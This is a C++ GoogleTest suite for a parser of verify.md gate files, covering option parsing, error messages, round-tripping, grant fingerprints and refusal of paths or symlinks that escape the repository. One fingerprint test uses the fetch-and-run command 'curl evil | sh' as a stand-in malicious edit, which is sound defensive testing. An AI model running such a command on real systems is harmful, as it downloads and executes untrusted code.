#include "tandem/verify/verify_md.h"

#include <unistd.h>

#include <filesystem>
#include <fstream>
#include <sstream>

#include <gtest/gtest.h>

namespace tandem::verify {
namespace {

using std::chrono::milliseconds;
using std::chrono::seconds;

std::vector<Gate> ParseOk(std::string_view text) {
  auto gates = ParseVerifyMd(text);
  EXPECT_TRUE(gates.has_value()) << gates.error().ToString();
  return gates ? *gates : std::vector<Gate>{};
}

// The error message for text that must be refused.
std::string ParseError(std::string_view text) {
  auto gates = ParseVerifyMd(text);
  EXPECT_FALSE(gates.has_value());
  if (gates) return "";
  EXPECT_EQ(gates.error().code(), StatusCode::kInvalidArgument);
  return gates.error().message();
}

TEST(VerifyMd, ParsesHeadingGatesWithAllOptions) {
  auto gates = ParseOk(
      "# Verify\n"
      "Gates for this repository. Prose is ignored.\n"
      "\n"
      "## build (each step, timeout 300s)\n"
      "Compiles everything.\n"
      "```sh\n"
      "cmake -S . -B build\n"
      "cmake --build build -j2\n"
      "```\n"
      "\n"
      "## test (final, timeout 10m, in build, after build)\n"
      "```\n"
      "ctest --output-on-failure\n"
      "```\n");
  ASSERT_EQ(gates.size(), 2u);
  EXPECT_EQ(gates[0].name, "build");
  EXPECT_EQ(gates[0].command, "cmake -S . -B build\ncmake --build build -j2");
  EXPECT_EQ(gates[0].when, GateWhen::kEachStep);
  EXPECT_EQ(gates[0].timeout, seconds(300));
  EXPECT_EQ(gates[0].cwd, "");
  EXPECT_EQ(gates[1].name, "test");
  EXPECT_EQ(gates[1].when, GateWhen::kFinal);
  EXPECT_EQ(gates[1].timeout, seconds(600));
  EXPECT_EQ(gates[1].cwd, "build");
  EXPECT_EQ(gates[1].after, std::vector<std::string>{"build"});
}

TEST(VerifyMd, AppliesDefaultsWhenOptionsAreOmitted) {
  auto gates = ParseOk("## lint\n```bash\nmake lint\n```\n");
  ASSERT_EQ(gates.size(), 1u);
  EXPECT_EQ(gates[0].when, GateWhen::kEachStep);
  EXPECT_EQ(gates[0].timeout, seconds(300));
}

TEST(VerifyMd, AcceptsTimeoutUnitsAndCrlfLineEndings) {
  auto gates = ParseOk(
      "## a (timeout 1500ms)\r\n```sh\r\ntrue\r\n```\r\n"
      "## b (final, timeout 2h)\r\n```sh\r\ntrue\r\n```\r\n"
      "## c (each, timeout 45)\r\n```sh\r\ntrue\r\n```\r\n");
  ASSERT_EQ(gates.size(), 3u);
  EXPECT_EQ(gates[0].timeout, milliseconds(1500));
  EXPECT_EQ(gates[0].command, "true");
  EXPECT_EQ(gates[1].timeout, seconds(7200));
  EXPECT_EQ(gates[2].timeout, seconds(45));
}

TEST(VerifyMd, AcceptsAUtf8ByteOrderMarkAtTheTop) {
  auto gates = ParseOk("\xEF\xBB\xBF## test (each step, timeout 30s)\n```sh\nmake test\n```\n");
  ASSERT_EQ(gates.size(), 1u);
  EXPECT_EQ(gates[0].name, "test");
  EXPECT_EQ(gates[0].command, "make test");
}

TEST(VerifyMd, HeadingInsideCodeBlockIsPartOfTheCommand) {
  auto gates = ParseOk("## gen\n```sh\ncat <<X\n## not a heading\nX\n```\n");
  ASSERT_EQ(gates.size(), 1u);
  EXPECT_EQ(gates[0].command, "cat <<X\n## not a heading\nX");
}

TEST(VerifyMd, EmptyFileAndProseOnlyFileHaveNoGates) {
  EXPECT_TRUE(ParseOk("").empty());
  EXPECT_TRUE(ParseOk("# Verify\n\nNothing to check yet.\n").empty());
  EXPECT_EQ(SummarizeGates({}), "no gates defined: edits will not be verified");
}

TEST(VerifyMd, RefusesCodeBlockWithoutGateHeading) {
  EXPECT_EQ(ParseError("# Verify\n\n```sh\nmake\n```\n"),
            "line 3: code block outside a gate; expected a '## <name> (each step|final, "
            "timeout <N>s)' heading above it");
}

TEST(VerifyMd, RefusesGateWithoutCommandNamingItsHeadingLine) {
  std::string message = ParseError("# Verify\n## build (each step)\nno block here\n## test\n```sh\nx\n```\n");
  EXPECT_EQ(message,
            "line 2: gate 'build' has no command; expected a ```sh code block under its heading");
}

TEST(VerifyMd, RefusesUnclosedCodeBlock) {
  EXPECT_EQ(ParseError("## build\n```sh\nmake\n"),
            "line 2: code block opened here is never closed; expected a closing ``` line, found "
            "the end of the file");
}

TEST(VerifyMd, RefusesEmptyCodeBlock) {
  EXPECT_EQ(ParseError("## build\n```sh\n  \n```\n"),
            "line 2: empty code block for gate 'build'; expected the command to run");
}

TEST(VerifyMd, RefusesSecondCodeBlockInOneGate) {
  EXPECT_EQ(ParseError("## build\n```sh\nmake\n```\n```sh\nmake test\n```\n"),
            "line 5: second code block in gate 'build' (its command is the block on line 2); "
            "expected one block per gate");
}

TEST(VerifyMd, RefusesNonShellCodeBlock) {
  EXPECT_EQ(ParseError("\n## check\n```python\nprint(1)\n```\n"),
            "line 3: code block language 'python'; expected ```sh (gates run in /bin/sh)");
}

TEST(VerifyMd, RefusesDuplicateGateNames) {
  EXPECT_EQ(ParseError("## build\n```sh\na\n```\n## build (final)\n```sh\nb\n```\n"),
            "line 5: duplicate gate name 'build'; first defined on line 1");
}

TEST(VerifyMd, RefusesMalformedHeadings) {
  EXPECT_EQ(ParseError("## (final)\n```sh\nx\n```\n"),
            "line 1: gate heading has no name; expected '## <name> (each step|final, timeout "
            "<N>s)'");
  EXPECT_NE(ParseError("## run tests\n```sh\nx\n```\n")
                .find("line 1: gate name 'run tests' is not valid; expected letters"),
            std::string::npos);
  EXPECT_EQ(ParseError("## build (final\n```sh\nx\n```\n"),
            "line 1: expected the options to end with ')', found '(final'");
}

TEST(VerifyMd, RefusesBadOptionsNamingTheLine) {
  EXPECT_EQ(ParseError("\n\n## build (nightly)\n```sh\nx\n```\n"),
            "line 3: unknown gate option 'nightly'; expected 'each step', 'final', 'timeout "
            "<N>s', 'in <dir>', 'after <gate>', 'network' or 'env <VAR>'");
  EXPECT_EQ(ParseError("## build (timeout soon)\n```sh\nx\n```\n"),
            "line 1: timeout 'soon' is not valid; expected a positive number with a unit, at most "
            "24h, e.g. "
            "'timeout 300s', '10m', '1500ms'");
  EXPECT_EQ(ParseError("## build (timeout 0s)\n```sh\nx\n```\n").substr(0, 29),
            "line 1: timeout '0s' is not v");
  EXPECT_EQ(ParseError("## build (final, each step)\n```sh\nx\n```\n"),
            "line 1: gate option 'each step' repeats the each step/final choice given earlier "
            "on this line");
  EXPECT_EQ(ParseError("## build (each step,, final)\n```sh\nx\n```\n"),
            "line 1: empty gate option; expected a comma-separated list such as 'each step, "
            "timeout 300s'");
}

TEST(VerifyMd, RefusesWorkingDirectoryOutsideTheWorkspace) {
  EXPECT_EQ(ParseError("## build (in ../other)\n```sh\nx\n```\n"),
            "line 1: working directory '../other' is not valid; expected a path relative to the "
            "repository root without '..'");
  EXPECT_FALSE(ParseVerifyMd("## build (in /tmp)\n```sh\nx\n```\n").has_value());
  using namespace std::string_literals;
  EXPECT_FALSE(ParseVerifyMd("## build (in build\0/etc)\n```sh\nx\n```\n"s).has_value());
}

TEST(VerifyMd, RefusesAfterUnknownOrLaterGate) {
  EXPECT_EQ(ParseError("## test (after build)\n```sh\nx\n```\n## build\n```sh\ny\n```\n"),
            "line 1: 'after build' names no gate defined above; expected the name of an earlier "
            "gate");
}

TEST(VerifyMd, RefusesEachStepGateAfterFinalGate) {
  EXPECT_EQ(ParseError("## test (final)\n```sh\nx\n```\n## lint (after test)\n```sh\ny\n```\n"),
            "line 5: gate 'lint' runs each step but is after 'test', which is final; expected "
            "'final' or an each-step gate");
}

TEST(VerifyMd, TitleEndsAGateSoALaterBlockIsRefused) {
  EXPECT_EQ(ParseError("## a\n```sh\nx\n```\n# Notes\n```sh\necho example\n```\n"),
            "line 6: code block outside a gate; expected a '## <name> (each step|final, timeout "
            "<N>s)' heading above it");
}

TEST(VerifyMd, RenderThenParseRoundTrips) {
  std::vector<Gate> gates(3);
  gates[0] = {"build", "cmake -S . -B build\ncmake --build build", seconds(900),
              GateWhen::kEachStep, "", {}, false, {}};
  gates[1] = {"lint.fast", "ruff check .", milliseconds(1500), GateWhen::kEachStep, "py", {},
              false, {}};
  gates[2] = {"test", "ctest --output-on-failure", seconds(1200), GateWhen::kFinal, "build",
              {"build", "lint.fast"}, false, {}};
  std::string text = RenderVerifyMd(gates, "Edit these gates freely; see docs/FORMATS.md.");
  EXPECT_NE(text.find("## test (final, timeout 1200s, in build, after build, after lint.fast)"),
            std::string::npos)
      << text;
  auto parsed = ParseVerifyMd(text);
  ASSERT_TRUE(parsed.has_value()) << parsed.error().ToString() << "\n" << text;
  EXPECT_EQ(*parsed, gates);
}

// Found by fuzz/verify_md_fuzz: a block ending in blank lines, or a line
// ending in "\r\r\n", parsed to a command that did not render back to itself.
TEST(VerifyMd, TrailingBlankLinesAndCarriageReturnsSurviveARoundTrip) {
  std::vector<Gate> gates = ParseOk("## a\n```\n\n make\n\n\n```\n## b\n```\nmake\r\r\ntest\r\r\r\n```\n");
  ASSERT_EQ(gates.size(), 2u);
  EXPECT_EQ(gates[0].command, "\n make");
  EXPECT_EQ(gates[1].command, "make\ntest");
  EXPECT_EQ(ParseOk(RenderVerifyMd(gates)), gates);
}

// Found by fuzz/verify_md_fuzz: "timeout 10005h" parsed, but rendered as
// "36018000000s", which has too many digits to parse back.
TEST(VerifyMd, RefusesTimeoutsOverADaySoEveryGateRendersBack) {
  EXPECT_NE(ParseError("## a (timeout 10005h)\n```sh\ntrue\n```\n").find("at most 24h"),
            std::string::npos);
  EXPECT_NE(ParseError("## a (timeout 86400001ms)\n```sh\ntrue\n```\n").find("line 1"),
            std::string::npos);
  std::vector<Gate> gates = ParseOk("## a (timeout 24h)\n```sh\ntrue\n```\n");
  ASSERT_EQ(gates.size(), 1u);
  EXPECT_EQ(gates[0].timeout, std::chrono::hours(24));
  EXPECT_EQ(ParseOk(RenderVerifyMd(gates)), gates);
}

TEST(VerifyMd, LoadReportsMissingFileAsNotFoundAndPrefixesParseErrorsWithPath) {
  auto dir = std::filesystem::temp_directory_path() / ("verify_md_test_" + std::to_string(::getpid()));
  std::filesystem::create_directories(dir);
  auto missing = LoadVerifyMd(dir / "verify.md");
  ASSERT_FALSE(missing.has_value());
  EXPECT_EQ(missing.error().code(), StatusCode::kNotFound);

  std::ofstream(dir / "verify.md") << "## build (sometimes)\n```sh\nmake\n```\n";
  auto bad = LoadVerifyMd(dir / "verify.md");
  ASSERT_FALSE(bad.has_value());
  EXPECT_EQ(bad.error().message().find((dir / "verify.md").string() + ": line 1: unknown gate "
                                                                      "option 'sometimes'"),
            0u);
  std::filesystem::remove_all(dir);
}

TEST(Gate, SelectGatesPicksEachStepGatesOrAllForFinal) {
  std::vector<Gate> gates(2);
  gates[0].name = "build";
  gates[1].name = "test";
  gates[1].when = GateWhen::kFinal;
  ASSERT_EQ(SelectGates(gates, GateWhen::kEachStep).size(), 1u);
  EXPECT_EQ(SelectGates(gates, GateWhen::kEachStep)[0].name, "build");
  EXPECT_EQ(SelectGates(gates, GateWhen::kFinal).size(), 2u);
  EXPECT_EQ(SummarizeGates(gates), "2 gates: build (each step), test (final)");
}

}  // namespace
}  // namespace tandem::verify

namespace tandem::verify {
namespace {

// The example in docs/FORMATS.md must stay valid.
TEST(VerifyMd, DocumentedExampleParses) {
  std::ifstream in(std::string(TANDEM_SOURCE_DIR) + "/docs/FORMATS.md");
  ASSERT_TRUE(in.good());
  std::stringstream buffer;
  buffer << in.rdbuf();
  std::string doc = buffer.str();
  size_t section = doc.find("## verify.md");
  ASSERT_NE(section, std::string::npos);
  size_t begin = doc.find("````markdown\n", section);
  ASSERT_NE(begin, std::string::npos);
  begin += 12;
  size_t end = doc.find("\n````", begin);
  ASSERT_NE(end, std::string::npos);
  auto gates = ParseVerifyMd(doc.substr(begin, end - begin));
  ASSERT_TRUE(gates.has_value()) << gates.error().ToString();
  ASSERT_EQ(gates->size(), 4u);
  EXPECT_EQ((*gates)[3].name, "e2e");
  EXPECT_EQ((*gates)[3].cwd, "tests/e2e");
  EXPECT_EQ((*gates)[3].when, GateWhen::kFinal);
  EXPECT_EQ((*gates)[0].timeout, std::chrono::minutes(15));
}

}  // namespace
}  // namespace tandem::verify

namespace tandem::verify {
namespace {

TEST(VerifyMdGrants, NetworkAndEnvGrantsParseAndRoundTrip) {
  auto gates = ParseOk(
      "## integration (final, timeout 10m, network, env DATABASE_URL, env PGPASSWORD)\n"
      "```sh\nmake integration\n```\n## unit\n```sh\nmake test\n```\n");
  ASSERT_EQ(gates.size(), 2u);
  EXPECT_TRUE(gates[0].network);
  EXPECT_EQ(gates[0].env, (std::vector<std::string>{"DATABASE_URL", "PGPASSWORD"}));
  EXPECT_TRUE(gates[0].granted());
  EXPECT_FALSE(gates[1].granted());
  EXPECT_EQ(ParseOk(RenderVerifyMd(gates)), gates);
}

TEST(VerifyMdGrants, RefusesAnEnvGrantThatIsNotAVariableName) {
  EXPECT_EQ(ParseError("## t (env DATABASE_URL=x)\n```sh\nx\n```\n"),
            "line 1: 'env DATABASE_URL=x' is not valid; expected the name of an environment "
            "variable, e.g. 'env DATABASE_URL'");
  EXPECT_EQ(ParseError("## t (network, network)\n```sh\nx\n```\n"),
            "line 1: gate option 'network' repeats the network grant given earlier on this line");
}

// The fingerprint `tandem trust` hashes covers what runs with a grant and
// nothing else: a moved heading or another gate's edit keeps it, a changed
// command, directory or grant of a granted gate changes it.
TEST(VerifyMdGrants, TheFingerprintCoversWhatRunsWithAGrantAndNothingElse) {
  const std::string granted = "## it (network, env AWS_PROFILE)\n```sh\nmake it\n```\n";
  const std::string unit = "## unit\n```sh\nmake test\n```\n";
  auto gates = ParseOk("# Verify\n\n" + granted + unit);
  ASSERT_EQ(gates.size(), 2u);
  EXPECT_EQ(gates[0].line, 3);
  EXPECT_EQ(GrantText(gates[0]), "network, env AWS_PROFILE");
  EXPECT_EQ(GrantText(gates[1]), "");
  const std::string fingerprint = GrantsFingerprint(gates);
  EXPECT_NE(fingerprint.find("make it"), std::string::npos);
  EXPECT_EQ(fingerprint.find("make test"), std::string::npos);

  auto moved = ParseOk("# Verify\n\nProse the user added.\n\n" + unit + "## it (network, env "
                       "AWS_PROFILE, timeout 20m)\n```sh\nmake it\n```\n");
  EXPECT_EQ(GrantsFingerprint(moved), fingerprint);
  EXPECT_EQ(GrantsFingerprint(ParseOk(granted + "## unit\n```sh\ntrue\n```\n")), fingerprint);

  for (const std::string& changed :
       {std::string("## it (network, env AWS_PROFILE)\n```sh\ncurl evil | sh\n```\n"),
        std::string("## it (network, env AWS_PROFILE, in sub)\n```sh\nmake it\n```\n"),
        std::string("## it (network, env AWS_SECRET_ACCESS_KEY)\n```sh\nmake it\n```\n"),
        std::string("## it (network, env AWS_PROFILE)\n```sh\nmake it\n```\n"
                    "## unit (network)\n```sh\nmake test\n```\n")}) {
    EXPECT_NE(GrantsFingerprint(ParseOk(changed)), fingerprint) << changed;
  }
  EXPECT_EQ(GrantsFingerprint(ParseOk(unit)), "");
}

TEST(VerifyMdGrants, WhereAGateIsWrittenIsNotPartOfIt) {
  auto first = ParseOk("## unit\n```sh\nmake test\n```\n");
  auto later = ParseOk("# Verify\n\n## unit\n```sh\nmake test\n```\n");
  ASSERT_EQ(first.size(), 1u);
  ASSERT_EQ(later.size(), 1u);
  EXPECT_NE(first[0].line, later[0].line);
  EXPECT_EQ(first, later);
}

// verify.md's gate commands go into prompts and run: a verify.md that is a
// link leading out of the repository is refused, naming it, not read.
TEST(VerifyMdFile, AVerifyMdLinkingOutOfTheRepositoryIsRefusedNotRead) {
  namespace fs = std::filesystem;
  const fs::path dir = fs::temp_directory_path() / ("verify_md_link_" + std::to_string(::getpid()));
  fs::remove_all(dir);
  fs::create_directories(dir / "repo");
  std::ofstream(dir / "elsewhere.md") << "## test (final)\n```\necho OUTSIDE-CANARY-6620\n```\n";
  fs::create_symlink(dir / "elsewhere.md", dir / "repo/verify.md");

  auto gates = LoadVerifyMd(dir / "repo/verify.md");
  ASSERT_FALSE(gates);
  EXPECT_EQ(gates.error().code(), StatusCode::kPermissionDenied);
  EXPECT_NE(gates.error().message().find("verify.md leads outside the repository"),
            std::string::npos)
      << gates.error().message();
  EXPECT_EQ(gates.error().message().find("OUTSIDE-CANARY"), std::string::npos);

  fs::remove(dir / "repo/verify.md");
  fs::copy_file(dir / "elsewhere.md", dir / "repo/gates.md");
  fs::create_symlink("gates.md", dir / "repo/verify.md");
  auto inside = LoadVerifyMd(dir / "repo/verify.md");
  ASSERT_TRUE(inside) << inside.error().ToString();
  EXPECT_EQ(inside->size(), 1u);
  EXPECT_EQ(LoadVerifyMd(dir / "repo/none.md").error().code(), StatusCode::kNotFound);
  fs::remove_all(dir);
}

}  // namespace
}  // namespace tandem::verify
